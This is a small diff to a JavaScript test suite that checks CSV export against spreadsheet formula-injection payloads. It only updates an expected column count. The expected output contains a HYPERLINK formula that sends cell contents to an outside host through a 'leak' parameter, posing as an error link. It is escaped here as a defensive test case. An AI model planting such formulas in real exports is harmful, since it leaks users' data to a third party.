@@ -203,7 +203,7 @@ describe('the other formats', () => {
 			answerIndex: 3
 		}));
 		const rows = readCsv(toCsv(questions), ',').slice(1);
-		expect(rows.map((row) => row.length)).toEqual(OWASP.map(() => 6));
+		expect(rows.map((row) => row.length)).toEqual(OWASP.map(() => 7));
 		expect(rows.map((row) => row[0])).toEqual(rows.map((row) => row[4]));
 		expect(rows.map((row) => row[0])).toEqual([
 			'\'=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
